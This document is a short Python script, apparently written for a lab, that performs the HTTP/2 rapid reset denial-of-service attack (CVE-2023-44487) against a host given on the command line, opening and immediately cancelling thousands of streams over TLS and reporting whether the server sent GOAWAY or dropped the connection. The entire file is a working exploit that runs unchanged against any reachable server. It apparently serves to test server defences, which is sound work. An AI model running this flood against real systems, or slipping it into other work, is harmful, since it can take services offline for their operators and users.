#!/usr/bin/env python3
"""A hostile HTTP/2 client for the lab: opens streams and resets them at once (rapid reset,
CVE-2023-44487), over TLS with ALPN h2, with the `h2` package. Prints one JSON line: how many
streams it opened before the server stopped it, and whether the server sent GOAWAY (and its
error code) or closed the connection.

Usage: h2flood.py HOST [STREAMS [TAG]]
"""

import json
import socket
import ssl
import sys

import h2.config
import h2.connection
import h2.events
import h2.exceptions


def main():
    host = sys.argv[1]
    total = int(sys.argv[2]) if len(sys.argv) > 2 else 20000
    tag = sys.argv[3] if len(sys.argv) > 3 else "1"
    ctx = ssl.create_default_context()
    ctx.set_alpn_protocols(["h2"])
    raw = socket.create_connection((host, 443), timeout=10)
    sock = ctx.wrap_socket(raw, server_hostname=host)
    assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    headers = [(":method", "GET"), (":scheme", "https"), (":authority", host), (":path", "/v1/models?flood=" + tag)]
    opened, goaway, closed = 0, None, False
    sock.settimeout(0.0)
    try:
        for _ in range(total // 100):
            for _ in range(100):
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, headers, end_stream=True)
                conn.reset_stream(sid)
                opened += 1
            sock.sendall(conn.data_to_send())
            try:
                data = sock.recv(65536)
            except (BlockingIOError, ssl.SSLWantReadError):
                data = None
            if data == b"":
                closed = True
                break
            if data:
                for ev in conn.receive_data(data):
                    if isinstance(ev, h2.events.ConnectionTerminated):
                        goaway = int(ev.error_code)
                sock.sendall(conn.data_to_send())
            if goaway is not None:
                break
    except (OSError, h2.exceptions.ProtocolError):
        closed = True
    print(json.dumps({"opened": opened, "goaway": goaway, "closed": closed}))


if __name__ == "__main__":
    main()
